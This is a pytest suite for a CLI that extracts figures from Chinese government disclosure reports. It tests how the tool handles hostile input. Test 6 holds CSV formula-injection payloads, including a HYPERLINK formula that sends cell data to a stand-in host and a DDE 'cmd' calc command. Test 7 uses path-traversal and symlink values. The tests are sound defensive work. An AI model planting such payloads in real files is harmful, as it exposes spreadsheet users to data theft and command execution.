"""What a careless or hostile user does never loses data, corrupts a batch, injects into a
spreadsheet or trains on garbage (issue 17). Each test is an item's reproducer, numbered as in
the issue; reports are invented (示例县), the commands and libraries real.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from conftest import REPO
from extraction.cli import main

REPORT = "{agency}2023年政府信息公开工作年度报告\n一、总体情况\n主动公开政府信息{n}条。\n"


def report(path: Path, agency: str = "示例县人民政府", n: int = 1234) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(REPORT.format(agency=agency, n=n), encoding="utf-8")
    return path


def xxgk(*args, cwd: Path | None = None):
    """Run the real CLI in-process; a traceback (any exception but SystemExit) fails the test."""
    old = os.getcwd()
    try:
        if cwd:
            os.chdir(cwd)
        result = CliRunner().invoke(main, [str(a) for a in args])
    finally:
        os.chdir(old)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def one_line_error(result) -> str:
    assert result.exit_code == 1, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1 and "Traceback" not in result.output, result.output
    return errors[0]


def batch(src, out, *extra, cwd=None):
    return xxgk("batch", src, "-o", out, "--no-figures", "--quiet", "-j", "1", *extra, cwd=cwd)


def records(out: Path) -> list[dict]:
    from extraction.batch.store import read_records
    return [r.to_json() for r in read_records(out / "records.jsonl")]


# --- 1. an output that is an input ----------------------------------------------------------

def test_1_extract_and_review_refuse_to_overwrite_their_input(tmp_path):
    a = report(tmp_path / "a.txt")
    before = a.read_bytes()
    assert "a.txt is both an input and the output" in one_line_error(
        xxgk("extract", a, "-o", a, "--no-figures"))
    b = tmp_path / "b.html"
    b.write_text("<html><body><h1>示例县人民政府2023年政府信息公开工作年度报告</h1></body></html>",
                 encoding="utf-8")
    html = b.read_bytes()
    assert "b.html is both an input" in one_line_error(xxgk("review", b, "-o", b, "--no-figures"))
    # the same file by another name (a link) is the same file
    link = tmp_path / "link.txt"
    link.symlink_to(a)
    one_line_error(xxgk("extract", a, "-o", link, "--no-figures"))
    assert a.read_bytes() == before and b.read_bytes() == html
    recs = tmp_path / "records.jsonl"
    xxgk("extract", a, "-o", recs, "--no-figures")
    one_line_error(xxgk("review", recs, "--summary", "-o", recs))
    assert json.loads(recs.read_text(encoding="utf-8"))["source"] == str(a)


# --- 2. an output inside a walked folder ----------------------------------------------------

def test_2_batch_output_inside_its_input_folder_is_not_read_back(tmp_path):
    report(tmp_path / "a.txt")
    report(tmp_path / "sub" / "b.txt", n=99)
    for _ in range(3):
        result = batch(".", "out", "--review-pages", "all", cwd=tmp_path)
        assert result.exit_code == 0, result.output
    assert "skipped out/: the output folder" in result.stderr
    assert sorted(r["source"] for r in records(tmp_path / "out")) == ["a.txt", "sub/b.txt"]
    values = pd.read_csv(tmp_path / "out" / "values.csv")
    assert len(values) == 2


# --- 3. identity by path and content --------------------------------------------------------

def test_3_an_edited_file_replaces_its_record(tmp_path):
    a = report(tmp_path / "in" / "a.txt", n=1234)
    out = tmp_path / "out"
    batch(tmp_path / "in", out)
    report(a, n=4321)  # edited between runs
    result = batch(tmp_path / "in", out)
    assert "a.txt: changed since its record; the record is replaced" in result.stderr
    from extraction.batch.walk import sha256_of
    assert [r["sha256"] for r in records(out)] == [sha256_of(a)]
    values = pd.read_csv(out / "values.csv")
    assert values["sha256"].tolist() == [sha256_of(a)]  # one row for the path, of its new content


def test_3_a_restored_file_loses_its_unreadable_row(tmp_path):
    from extraction.batch.store import RecordStore
    from extraction.pipeline import extract
    src = tmp_path / "in"
    src.mkdir()
    gone = src / "a.txt"
    out = tmp_path / "out"
    with RecordStore(out) as store:  # the record a run wrote while the file was deleted
        store.append(extract(gone))
        store.finish()
    assert records(out)[0]["error"]["type"] == "unreadable_file"
    report(gone)  # restored
    result = batch(src, out)
    assert "changed since its record" in result.stderr
    recs = records(out)
    assert len(recs) == 1 and "error" not in recs[0]
    assert pd.read_csv(out / "errors.csv").empty


# --- 4. a BOM in records.jsonl --------------------------------------------------------------

def test_4_records_with_a_bom_are_read_everywhere(tmp_path):
    report(tmp_path / "in" / "a.txt")
    out = tmp_path / "out"
    batch(tmp_path / "in", out)
    path = out / "records.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # saved by an editor
    result = batch(tmp_path / "in", out)
    assert "1 already done" in result.stderr
    assert len(pd.read_csv(out / "values.csv")) == 1  # the tables have it, not only the scan
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    result = xxgk("review", path, "--summary")
    assert result.exit_code == 0 and ": 1 reports" in result.stderr


# --- 5. file names that are not UTF-8 -------------------------------------------------------

def test_5_non_utf8_file_names_never_crash_and_resume(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    bad = os.fsdecode(bytes(src) + b"/bad\xffname.txt")
    Path(bad).write_text(REPORT.format(agency="示例县", n=7), encoding="utf-8")
    report(src / "good.txt")
    out = tmp_path / "out"
    for _ in range(2):
        result = batch(src, out)
        assert result.exit_code == 0, result.output
    assert "0 extracted" in result.stderr  # the resume found both done
    sources = sorted(r["source"] for r in records(out))
    assert sources == [str(src / "bad\\xffname.txt"), str(src / "good.txt")]
    assert "bad\\xffname.txt" in (out / "values.csv").read_text(encoding="utf-8")
    result = xxgk("extract", src, "--no-figures")
    assert result.exit_code == 0 and "bad\\\\xffname.txt" in result.stdout


# --- 6. formulas in CSV cells ---------------------------------------------------------------

def test_6_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(tmp_path):
    from extraction.csv_safe import safe_cell
    src = tmp_path / "in"
    title = '=HYPERLINK("http://x.example/?"&A1,"click")示例县'
    report(src / "t.txt", agency=title)
    report(src / "u.txt", agency="@SUM(1+1)*cmd|' /Ccalc'!A0示例县", n=5)
    report(src / "=HYPERLINK(1).md", agency="示例镇", n=6)
    out = tmp_path / "out"
    assert batch(".", out, cwd=src).exit_code == 0  # sources as walked: "=HYPERLINK(1).md"
    for name in ("values", "figures", "checks", "errors", "duplicates"):
        for cell in pd.read_csv(out / f"{name}.csv", dtype=str).stack().dropna():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
    values = pd.read_csv(out / "values.csv", dtype=str)
    assert any(t.startswith("'=HYPERLINK") for t in values["title"].dropna())
    assert "'=HYPERLINK(1).md" in values["source"].tolist()
    # the other formats keep the text as read
    assert title in pd.read_parquet(out / "values.parquet")["agency"].tolist()
    assert [safe_cell(v) for v in ("-1", "+x", "\tx", "\rx", "ok", 5)] == \
        ["'-1", "'+x", "'\tx", "'\rx", "ok", 5]


# --- 7. paths confined to their folder ------------------------------------------------------

def test_7_batch_does_not_follow_links_out_and_reports_dangling_ones(tmp_path):
    src = tmp_path / "in"
    report(src / "a.txt")
    secret = report(tmp_path / "elsewhere" / "secret.txt", agency="机密局")
    (src / "passwd.txt").symlink_to(secret)
    (src / "gone.txt").symlink_to(tmp_path / "nowhere.txt")
    (src / "inside.txt").symlink_to(src / "a.txt")  # a link inside the folder is fine
    out = tmp_path / "out"
    result = batch(src, out, "--review-pages", "all")
    assert "passwd.txt: a link to" in result.stderr and "not followed" in result.stderr
    assert "gone.txt: a dangling symbolic link" in result.stderr
    assert [r["source"] for r in records(out)] == [str(src / "a.txt")]
    pages = " ".join(p.read_text(encoding="utf-8") for p in (out / "reviews").glob("*.html"))
    assert "机密局" not in pages


def _text_and_record(folder: Path, texts: Path, spans: list, doc="a.txt", **extra) -> Path:
    from extraction.annotate.convert import sha256_text
    text = (texts / "a.txt").read_text(encoding="utf-8")
    rec = {"sha256": sha256_text(text), "doc": doc, "source": "", "spans": spans, **extra}
    path = folder / f"{uuid.uuid4().hex}.json"
    path.write_text(json.dumps(rec, ensure_ascii=False), encoding="utf-8")
    return path


def test_7_annotation_doc_paths_stay_in_their_folder(tmp_path):
    from extraction.annotate.store import load_gold
    texts, notes = tmp_path / "texts", tmp_path / "annotations"
    notes.mkdir()
    texts.mkdir()
    secret = report(tmp_path / "secret.txt", agency="机密局")
    from extraction.annotate.convert import sha256_text
    # the sha256 fits the secret's text: only where it may be looked up can stop it
    rec = {"sha256": sha256_text(secret.read_text(encoding="utf-8")), "doc": "../secret.txt",
           "source": "", "spans": [{"id": 0, "label": "QTY", "start": 28, "end": 33,
                                    "value": 1234, "unit": "条"}]}
    (notes / "evil.json").write_text(json.dumps(rec), encoding="utf-8")
    (texts / "link.txt").symlink_to(secret)
    (notes / "link.json").write_text(json.dumps({**rec, "doc": "link.txt"}), encoding="utf-8")
    docs, problems = load_gold(notes, [texts])
    assert docs == []
    assert any("evil.json" in p and "not a plain file name" in p for p in problems)
    assert any("link.json" in p and "no source file found" in p for p in problems)


# --- 8. annotations validated against the guideline ----------------------------------------

_TEXT = REPORT.format(agency="示例县人民政府", n=1234)
_I, _Q = _TEXT.index("主动公开政府信息"), _TEXT.index("1234条")
GOOD = [{"id": 0, "label": "ITEM", "start": _I, "end": _Q},
        {"id": 1, "label": "QTY", "start": _Q, "end": _Q + 5, "item": 0, "value": 1234, "unit": "条",
         "approx": False, "field": "proactive_total", "value_by": "rule"}]
BAD = {
    "label": ([{**GOOD[1], "label": "EVIL", "item": None, "field": None}], "label 'EVIL'"),
    "value": ([GOOD[0], {**GOOD[1], "value": "abc"}], "value 'abc'"),
    "field": ([GOOD[0], {**GOOD[1], "field": "no_such_field"}], "field 'no_such_field'"),
    "overlap": ([GOOD[0], GOOD[1], {**GOOD[1], "id": 2, "start": _Q + 2, "end": _Q + 5}], "overlap"),
    "huge": ([{"id": 0, "label": "QTY", "start": 0, "end": len(_TEXT), "value": -1e308}],
             f"a QTY of {len(_TEXT)}"),
    "negative": ([{"id": 0, "label": "QTY", "start": _Q, "end": _Q + 5, "value": -1e308}], "-1e+308"),
    "link": ([{**GOOD[1], "id": 0, "item": 7}], "linked to item 7"),
    "offsets": ([{**GOOD[1], "start": str(_Q), "item": None, "field": None}], f"offsets '{_Q}'"),
}


def test_8_bad_annotation_records_are_reported_by_file_and_the_rest_used(tmp_path):
    from extraction.annotate.store import load_gold
    from training.retrain import annotation_docs
    texts, notes = tmp_path / "texts", tmp_path / "annotations"
    notes.mkdir()
    report(texts / "a.txt")
    good = _text_and_record(notes, texts, GOOD)
    bad = {k: _text_and_record(notes, texts, spans) for k, (spans, _) in BAD.items()}
    (notes / "truncated.json").write_text('{"sha256": "ab', encoding="utf-8")
    (notes / "list.json").write_text("[1, 2]", encoding="utf-8")
    (notes / "nohash.json").write_text(json.dumps({"doc": "a.txt", "spans": []}), encoding="utf-8")
    docs, problems = load_gold(notes, [texts])
    assert [d["spans"][1]["text"] for d in docs] == ["1234条"]
    assert len(problems) == len(BAD) + 3
    for key, (_, why) in BAD.items():
        assert any(p.startswith(str(bad[key])) and why in p for p in problems), (key, problems)
    for name, why in (("truncated", "not valid JSON"), ("list", "not a record"),
                      ("nohash", "sha256 None is not a SHA-256")):
        assert any(f"{name}.json: {why}" in p for p in problems), (name, problems)
    assert good.exists()
    trained_on, problems = annotation_docs(notes, [texts])  # what the retrain would use
    assert len(trained_on) == 1 and len(problems) == len(BAD) + 3


def test_8_malformed_label_studio_exports_give_one_clear_message(tmp_path):
    text = REPORT.format(agency="示例县人民政府", n=1234)
    good = {"id": 1, "data": {"text": text, "source": "a.txt"},
            "annotations": [{"id": 5, "result": [
                {"id": "q", "type": "labels", "from_name": "label", "to_name": "text",
                 "value": {"start": _Q, "end": _Q + 5, "text": "1234条", "labels": ["QTY"]}}]}]}
    notjson = tmp_path / "notjson.json"
    notjson.write_text("{not json", encoding="utf-8")
    assert "notjson.json: not a Label Studio JSON export" in one_line_error(
        xxgk("annotate", "import", notjson, "--out", tmp_path / "ann"))
    region = good["annotations"][0]["result"][0]
    tasks = ["a string", {"id": 2, "data": [1]},
             {**good, "id": 3, "annotations": [{"id": 6, "result": [
                 {k: v for k, v in region.items() if k != "id"}]}]},
             {**good, "id": 4, "annotations": [{"id": 7, "result": [{**region, "value": "x"}]}]},
             good]
    export = tmp_path / "export.json"
    export.write_text(json.dumps(tasks, ensure_ascii=False), encoding="utf-8")
    result = xxgk("annotate", "import", export, "--out", tmp_path / "ann")
    assert result.exit_code == 0, result.output
    for why in ("task #1: a task is a JSON str", "task 2: its data is not an object",
                "task 3: annotation 6: a region has no id", "task 4: annotation 7: region q: its value"):
        assert f"not used: {why}" in result.stderr, result.stderr
    assert "export.json: 1 annotated reports (1 records written" in result.stderr


# --- 9. read-only output, full disk ---------------------------------------------------------

@pytest.fixture
def small_disk(tmp_path):
    disk = tmp_path / "disk"
    disk.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)],
                          capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here ({done.stderr.strip()})")
    yield disk
    subprocess.run(["umount", "-l", str(disk)], check=False)


def xxgk_process(*args):
    """The real CLI in its own process (so a failed run's open files die with it)."""
    return subprocess.run([sys.executable, "-m", "extraction.cli", *map(str, args)],
                          capture_output=True, text=True, cwd=REPO)


def one_line_failure(done) -> str:
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    errors = [line for line in done.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, done.stderr
    return errors[0]


def test_9_full_disk_and_read_only_output_are_one_line_and_leave_no_tmp(tmp_path, small_disk):
    src = tmp_path / "in"
    for i in range(40):
        report(src / f"r{i:02}.txt", agency=f"示例{i}县人民政府", n=i)
    out = small_disk / "out"
    run = ("batch", src, "-o", out, "--no-figures", "--quiet", "-j", "1")
    assert "No space left on device" in one_line_failure(xxgk_process(*run))
    assert not list(out.rglob("*.tmp"))
    subprocess.run(["mount", "-o", "remount,size=64m", str(small_disk)], check=True)
    assert xxgk_process(*run).returncode == 0  # nothing lost: the re-run finishes the batch
    assert len(records(out)) == 40
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    assert "Read-only file system" in one_line_failure(
        xxgk_process("batch", src, "-o", small_disk / "other", "--no-figures", "--quiet"))
    one_line_failure(xxgk_process("extract", src / "r00.txt", "-o", small_disk / "x.jsonl",
                                  "--no-figures"))


# --- 10. model folders checked before loading -----------------------------------------------

@pytest.mark.parametrize("damage, file, why", [
    ("tokenizer", "tokenizer.json", "not UTF-8"),
    ("hidden", "config.json", "hidden_size is 1000000000"),
    ("layers", "config.json", "num_hidden_layers is 20000"),
])
def test_10_a_bad_model_folder_is_one_line_naming_the_file(tmp_path, damage, file, why):
    model = tmp_path / "model"
    shutil.copytree(REPO / "models" / "xxgk-figures", model)
    config = json.loads((model / "config.json").read_text(encoding="utf-8"))
    if damage == "tokenizer":
        (model / "tokenizer.json").write_bytes(b"\xff\xfe\x00garbage" * 100)
    else:
        config["hidden_size" if damage == "hidden" else "num_hidden_layers"] = \
            10**9 if damage == "hidden" else 20000
        (model / "config.json").write_text(json.dumps(config), encoding="utf-8")
    a = report(tmp_path / "a.txt")
    for command in (["extract", a], ["review", a, "-o", tmp_path / "a.html"],
                    ["batch", a, "-o", tmp_path / "out", "--quiet"]):
        error = one_line_error(xxgk(*command, "--model", model))
        assert str(model / file) in error and why in error


# --- 11. workers capped by cores and memory -------------------------------------------------

def test_11_workers_are_capped_with_a_warning(tmp_path):
    from extraction.batch.settings import WORKER_BYTES, available_memory, capped_jobs
    n, warning = capped_jobs(16 * (os.cpu_count() or 1))
    assert n <= (os.cpu_count() or 1) and warning and "using" in warning
    assert n == 1 or n * WORKER_BYTES <= available_memory()
    assert capped_jobs(1) == (1, None)
    report(tmp_path / "in" / "a.txt")
    result = batch(tmp_path / "in", tmp_path / "out", "-j", str(16 * (os.cpu_count() or 1)))
    assert result.exit_code == 0 and f"-j {16 * (os.cpu_count() or 1)}: using {n} workers" in result.stderr
